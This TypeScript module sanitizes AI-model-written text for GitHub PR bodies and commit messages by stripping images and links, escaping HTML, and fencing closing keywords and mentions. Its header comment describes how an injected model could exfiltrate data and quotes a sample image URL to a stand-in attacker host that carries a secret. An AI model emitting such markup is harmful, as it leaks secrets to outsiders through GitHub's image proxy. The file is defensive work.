/**
 * Text the model wrote (its summary, its plan, its reason for stopping), made safe to post on GitHub. An injected
 * model can write anything, and GitHub acts on some Markdown by itself:
 * - `![x](https://attacker/p.png?d=SECRET)`: GitHub's image proxy fetches the URL as soon as anyone views the PR, so
 *   whatever the model put in it leaves without a click. Images are removed.
 * - links (`[x](url)`, reference links, autolinks, bare URLs) invite a click to the same place. They are removed; a
 *   bare URL stays readable as code, where GitHub does not link it.
 * - `Fixes #12` (close/closes/closed, fix/fixes/fixed, resolve/resolves/resolved, followed by #N, owner/repo#N or an
 *   issue URL) in a PR body or commit message closes that issue on merge; `@someone` pings people. Both are put in a
 *   code span, where GitHub detects neither. Only our own template's `Fixes #n` closes an issue.
 * HTML is escaped, so no tag (`<img>`, `<a>`, `<details>`) renders either.
 */

/** Closing keyword with its reference, as GitHub documents it (a colon after the keyword is allowed). */
const KEYWORD = String.raw`\b(?:close[sd]?|fix(?:e[sd])?|resolve[sd]?)\b:?`;
const REFERENCE = String.raw`(?:[\w.-]+\/[\w.-]+#\d+|#\d+|(?:https?:\/\/)?[^\s<>\x60]*\/(?:issues|pull)\/\d+)`;
const CLOSING = String.raw`${KEYWORD}(?:[ \t]+|[ \t]*\n[ \t]*)${REFERENCE}`;
/** What GFM autolinks without brackets: URLs with a scheme, `www.` hosts, e-mail addresses. */
const URL = String.raw`\b(?:https?|ftp|mailto|xmpp):[^\s<>\x60]+|\bwww\.[^\s<>\x60]+|\b[\w.+-]+@[\w-]+(?:\.[\w-]+)+`;
/** `@user` and `@org/team`, as GitHub finds them (not inside a word, so e-mail addresses are not mentions). */
const MENTION = String.raw`(?<!\w)@[A-Za-z0-9][A-Za-z0-9-]*(?:\/[\w.-]+)?`;
const DANGEROUS = new RegExp(`${CLOSING}|${URL}|${MENTION}`, 'gi');

const IMAGE_INLINE = /!\[[^\]\n]*\]\([^)\n]*\)?/g;
const IMAGE_REFERENCE = /!\[[^\]\n]*\]\[[^\]\n]*\]/g;
const LINK_INLINE = /\[([^\]\n]*)\]\([^)\n]*\)?/g;
const LINK_REFERENCE = /\[([^\]\n]*)\]\[[^\]\n]*\]/g;
const LINK_DEFINITION = /^ {0,3}\[[^\]\n]+\]:.*$/gm;

function longestBacktickRun(text: string): number {
  return Math.max(0, ...[...text.matchAll(/`+/g)].map((m) => m[0].length));
}

/** Escapes HTML and breaks whatever link or image syntax survived the removal above (`](`, `![`). */
function plain(text: string): string {
  return text
    .replace(/&/g, '&amp;')
    .replace(/</g, '&lt;')
    .replace(/>/g, '&gt;')
    .replace(/\]\(/g, ']\\(')
    .replace(/\]\[/g, ']\\[')
    .replace(/!\[/g, '!\\[');
}

/** Markdown for model-written text: no image, no link, no closing keyword, no mention, no HTML. */
export function modelText(text: string): string {
  const stripped = text
    .replace(/\r\n?/g, '\n')
    .replace(IMAGE_INLINE, '(image removed)')
    .replace(IMAGE_REFERENCE, '(image removed)')
    .replace(LINK_DEFINITION, '')
    .replace(LINK_INLINE, '$1')
    .replace(LINK_REFERENCE, '$1');
  // A code span closes only on a backtick run of its own length: one longer than any run in the text cannot be
  // closed, opened or swallowed by the text's own backticks.
  const fence = '`'.repeat(longestBacktickRun(stripped) + 1);
  let out = '';
  let last = 0;
  for (const m of stripped.matchAll(DANGEROUS)) {
    out += plain(stripped.slice(last, m.index));
    // A backtick or backslash right before the fence would change its length or escape it.
    if (/[`\\]$/.test(out)) out += ' ';
    out += `${fence}${m[0]}${fence}`;
    last = m.index + m[0].length;
    if (stripped[last] === '`') out += ' ';
  }
  return out + plain(stripped.slice(last));
}

/**
 * A name GitHub supplies and its owner chose (a branch, a fork's `owner/name`, a file path) as inline code in
 * Markdown: a code span whose fence is longer than any backtick run in the name, so the name cannot close it and step
 * out into live Markdown (``x`@acme/team<br>`` would otherwise mention a team and break the line). Inside a code span
 * GitHub renders no HTML, link or mention. Line breaks and other controls become spaces: a blank line would end the
 * paragraph, and the span with it.
 */
export function inlineCode(name: string): string {
  const flat = name.replace(/[\u0000-\u001F\u007F-\u009F\u2028\u2029]/g, ' ');
  const fence = '`'.repeat(longestBacktickRun(flat) + 1);
  // A span that starts or ends with a backtick needs a space inside its fence (CommonMark strips one on each side).
  const pad = /^`|`$/.test(flat) || /^ .* $/.test(flat) ? ' ' : '';
  return `${fence}${pad}${flat}${pad}${fence}`;
}

/**
 * The same protection for plain text that GitHub still reads for references (commit messages, where a closing
 * keyword closes the issue once the commit reaches the default branch): the keyword is separated from its reference
 * (GitHub needs them adjacent), and mentions go in backticks. Nothing renders there, so links and HTML stay as they are.
 */
export function modelPlainText(text: string): string {
  const fence = '`'.repeat(longestBacktickRun(text) + 1);
  return text
    .replace(new RegExp(`(${KEYWORD})(?:[ \\t]+|[ \\t]*\\n[ \\t]*)(${REFERENCE})`, 'gi'), '$1 issue $2')
    .replace(new RegExp(MENTION, 'g'), (m) => `${fence}${m}${fence}`);
}
